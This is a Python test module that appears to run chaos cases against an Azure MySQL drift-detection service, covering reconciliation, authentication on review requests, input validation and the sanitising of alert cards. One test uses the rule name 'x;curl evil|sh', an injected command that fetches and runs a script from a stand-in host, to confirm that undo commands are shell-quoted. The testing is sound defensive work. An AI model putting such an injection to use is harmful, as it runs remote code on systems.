"""Issue 9's cases about reconciliation (rows 9-10), the review actions (13-15, 17) and what reaches
a card (16): one function per row, `case(env) -> Tally`. Each docstring is the issue's row.
"""

from __future__ import annotations

import json
import shlex
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from drift.local import writes
from drift.local.chaos import (
    GROUP,
    SUBSCRIPTION,
    WORKSPACE,
    ChaosEnv,
    Tally,
    card_facts,
    card_text,
    deliver,
)
from drift.local.chaos_events import ALLOW_ALL, OTHER_SUBSCRIPTION

INFRA = Path(__file__).resolve().parents[2] / "infra"

# -- rows 9-10: reconciliation ----------------------------------------------------------------

BAD_CHECKPOINTS: list[tuple[str, Callable[[str], dict[str, Any]]]] = [
    ("started_at not a date", lambda now: {"started_at": "yesterday-ish", "run_id": "r1", "completed": False}),
    ("started_at a number", lambda now: {"started_at": 1700000000, "run_id": "r1", "completed": False}),
    ("unknown keys", lambda now: {"started_at": now, "run_id": "r1", "completed": False, "done_x": "zz",
                                  "surprise": "?"}),
]


def bad_checkpoint(env: ChaosEnv) -> Tally:
    """Row 9: a scan checkpoint row with a bad `started_at` or unknown keys: logged, discarded, the
    scan starts afresh (and finds the server's gaps)."""
    tally = Tally()
    from drift.reconcile import Reconciler

    for label, row in BAD_CHECKPOINTS:
        tally.tried += 1
        world = env.begin()
        engine = world.engine(watched_subscriptions=[SUBSCRIPTION])
        engine.store.ensure_table()
        writes.create_server(world.sdk(), GROUP, world.name, public_access="Enabled")
        world.arm.drain_events()  # missed by Event Grid: only the scan can find it
        engine.store.save_checkpoint(SUBSCRIPTION.lower(), row(datetime.now(UTC).isoformat()))
        try:
            Reconciler(engine).scan([SUBSCRIPTION])
        except Exception as exc:
            tally.crashed += 1
            tally.note(f"{label}: scan died: {type(exc).__name__}: {str(exc)[:100]}")
            continue
        if not world.history() or not world.cards():
            tally.lost += 1
            tally.note(f"{label}: the scan did not report the unseen server")
    return tally


def known_servers_exact(env: ChaosEnv) -> Tally:
    """Row 10: `known_servers` of subscription ...0001 returns only its servers, and a scan of it
    leaves the servers of ...0002 open."""
    tally, world = Tally(tried=1), env.begin()
    first, second = "00000000-0000-0000-0000-000000000001", "00000000-0000-0000-0000-000000000002"
    engine = world.engine(watched_subscriptions=[first, second])
    for sub in (first, second):
        writes.create_server(world.sdk(subscription=sub), GROUP, world.name)
    deliver(engine, world.arm.drain_events(), tally)
    from drift.reconcile import Reconciler

    known = engine.store.known_servers(first)
    if [s.lower() for s in known] != [writes.server_id(first, GROUP, world.name).lower()]:
        tally.wrong += 1
        tally.note(f"known_servers(...0001) returned {len(known)} servers")
    Reconciler(engine).scan([first])
    other = engine.store.load(writes.server_id(second, GROUP, world.name)).baselines.values()
    if not other or any(b.closed for b in other):
        tally.wrong += 1
        tally.note("a scan of ...0001 closed the baselines of a server in ...0002")
    return tally


# -- rows 13-15, 17: the review actions -------------------------------------------------------


def accept_names_what_was_seen(env: ChaosEnv) -> Tally:
    """Row 13: the on-call accepts `firewall_rules` after a LOW alert while an allow-all rule is being
    added: the accept names the alert, is refused because ARM now shows something else, and the
    allow-all rule still gets its card."""
    from drift import review

    tally, world = Tally(tried=1), env.begin()
    engine = world.engine()
    world.compliant_server(engine)
    sdk = world.sdk()
    writes.add_rule(sdk, GROUP, world.name, "vendor", "192.0.2.10", "192.0.2.10")
    deliver(engine, world.arm.drain_events(), tally)
    key = next((card_facts(m).get("Alert id") for m in world.cards()), None)
    world.teams.clear()
    writes.add_rule(sdk, GROUP, world.name, *ALLOW_ALL)  # lands while the on-call reads the card
    named = {"reason": "vendor access, CHG-12", "by": "Riley On-Call", "setting": "firewall_rules"}
    try:
        review.accept(engine, world.name, **named, alert=key)
        tally.wrong += 1
        tally.note("accept took a state the alert never showed")
    except TypeError:
        tally.note("accept has no alert= parameter: the unchecked accept was used")
        review.accept(engine, world.name, **named)
    except getattr(review, "ReviewError", ValueError):
        pass
    deliver(engine, world.arm.drain_events(), tally)
    if not [r for r in world.history() if r.setting == "firewall_rules" and "AllowAll" in (r.after or "")
            and r.verdict == "weakened"] or not world.cards():
        tally.lost += 1
        tally.note("the allow-all rule became the baseline with no card")
    return tally


def review_identity_from_platform(env: ChaosEnv) -> Tally:
    """Row 14: `POST /api/accept` without `X-MS-CLIENT-PRINCIPAL-NAME`, with "by" in the body: 401,
    nothing recorded in the body's name; and infra deploys App Service Authentication (Entra
    sign-in required), which is what sets that header."""
    from drift import http

    tally, world = Tally(tried=1), env.begin()
    engine = world.engine()
    world.compliant_server(engine)
    body = json.dumps({"server": world.name, "setting": "tls_version", "reason": "looks fine", "by": "Mallory"})
    try:
        status, _answer = http.review(engine, "accept", body.encode(), {})
    except Exception as exc:
        tally.crashed += 1
        tally.note(f"HTTP 500: {type(exc).__name__}")
        return tally
    if status != 401:
        tally.wrong += 1
        tally.note(f"answered {status} without a signed-in user")
    if any(r.changed_by == "Mallory" for r in world.history()):
        tally.wrong += 1
        tally.note("the body's 'by' was recorded as the person who accepted")
    bicep = "\n".join(p.read_text() for p in INFRA.rglob("*.bicep")) if INFRA.is_dir() else None
    if bicep is not None:  # the repo's infra, when the suite runs from a clone
        tally.tried += 1
        if not all(word in bicep for word in ("authsettingsV2", "requireAuthentication", "azureActiveDirectory")):
            tally.wrong += 1
            tally.note("infra deploys no App Service Authentication (authsettingsV2 with Entra sign-in required)")
    return tally


def bad_review_requests(env: ChaosEnv) -> Tally:
    """Row 15: review requests with `setting` as a list or an object, a 100 KB reason, a server id with
    `|`, a 5 MB body, a server in an unwatched subscription: 4xx with a one-line reason, nothing written."""
    from drift import http

    tally, world = Tally(), env.begin()
    engine = world.engine(watched_subscriptions=[SUBSCRIPTION])
    world.compliant_server(engine)
    outsider = writes.server_id(OTHER_SUBSCRIPTION, GROUP, world.name)
    writes.create_server(world.sdk(subscription=OTHER_SUBSCRIPTION), GROUP, world.name)
    world.arm.drain_events()
    base = {"server": world.name, "reason": "ok"}
    requests = {
        "setting a list": {**base, "setting": ["tls_version"]},
        "setting an object": {**base, "setting": {"name": "tls_version"}},
        "a 100 KB reason": {**base, "setting": "tls_version", "reason": "r" * 100_000},
        "a server id with |": {**base, "server": world.server_id + "|x"},
        "a 5 MB body": {**base, "setting": "tls_version", "reason": "b" * 5_000_000},
        "a server in an unwatched subscription": {**base, "server": outsider},
    }
    headers = {"X-MS-CLIENT-PRINCIPAL-NAME": "riley@contoso.example"}
    for label, payload in requests.items():
        tally.tried += 1
        before = len(engine.store.history())
        try:
            status, answer = http.review(engine, "accept", json.dumps(payload).encode(), headers)
        except Exception as exc:
            tally.crashed += 1
            tally.note(f"{label}: HTTP 500 ({type(exc).__name__})")
            continue
        reason = str(answer.get("error", ""))
        if not 400 <= status < 500 or not reason or "\n" in reason or len(reason) > 300:
            tally.wrong += 1
            tally.note(f"{label}: answered {status}")
        if len(engine.store.history()) != before:
            tally.wrong += 1
            tally.note(f"{label}: rows written")
    return tally


def server_names_case_insensitive(env: ChaosEnv) -> Tally:
    """Row 17: `accept orders-db` when Azure spelled it `Orders-DB`: found."""
    from drift import review

    tally, world = Tally(tried=1), env.begin()
    world.name = "orders-db-" + world.name[-4:]  # ARM's server names are lower case (the spec's pattern) ...
    engine = world.engine()
    writes.create_compliant_server(world.sdk(), GROUP, world.name, WORKSPACE)
    events = world.arm.drain_events()
    for event in events:  # ... but the ids in events and in the table may come spelled otherwise
        event["subject"] = event["subject"].replace(world.name, world.name.upper())
        event["data"]["resourceUri"] = event["data"]["resourceUri"].replace(world.name, world.name.upper())
    engine.handle_many(events)
    world.teams.clear()
    try:
        review.accept(engine, "Orders-DB-" + world.name[-4:], reason="CHG-9", by="Riley On-Call",
                      setting="tls_version", expect="TLSv1.3")
    except getattr(review, "ReviewError", ValueError) as exc:
        tally.wrong += 1
        tally.note(f"refused: {str(exc).replace(world.name.lower(), 'orders-db-…')}")
    return tally


# -- row 16: what reaches a card --------------------------------------------------------------

INVISIBLE = "\u061c\ufeff\u2060\u00ad"


def hostile_strings(env: ChaosEnv) -> Tally:
    """Row 16: U+061C, U+FEFF, U+2060, U+00AD in names and claims never reach a card; a value from
    outside in an undo command is shell-quoted."""
    tally, world = Tally(tried=2), env.begin()
    engine = world.engine()
    world.compliant_server(engine)
    claims = {"name": f"Ca{INVISIBLE}sey Admin", "upn": f"casey{INVISIBLE[0]}@contoso.example",
              "ipaddr": "203.0.113.7", "appid": "04b07795-8ddb-461a-bbee-02f9e1bf7b46"}
    hidden = world.sdk(claims)
    writes.add_rule(hidden, GROUP, world.name, "office", "192.0.2.1", "192.0.2.1")  # ARM's rule names are plain
    deliver(engine, world.arm.drain_events(), tally)
    seen = "".join(c for m in world.cards() for c in INVISIBLE if c in card_text(m))
    if not world.cards():
        tally.lost += 1
        tally.note("no card for the rule with invisible characters")
    elif seen:
        tally.wrong += 1
        tally.note("invisible format characters reached the card: " + ", ".join(f"U+{ord(c):04X}" for c in seen))
    # Names ARM lets through that a shell reads: a resource group with parentheses and other scripts.
    from drift.armid import mysql_server_ref
    from drift.engine import remediation

    group, rule = "rg-(ops).ü", "x;curl evil|sh"
    ref = mysql_server_ref(f"/subscriptions/{SUBSCRIPTION}/resourceGroups/{group}/providers/"
                           f"Microsoft.DBforMySQL/flexibleServers/{world.name}")
    assert ref is not None
    command = remediation("az x -g {resource_group} -n {server} --rule-name {target}", ref, (rule,))
    rows = [command]
    if shlex.quote(group) not in command or shlex.quote(rule) not in command:
        tally.wrong += 1
        tally.note(f"undo command not shell-quoted: {rows[0]}")
    return tally
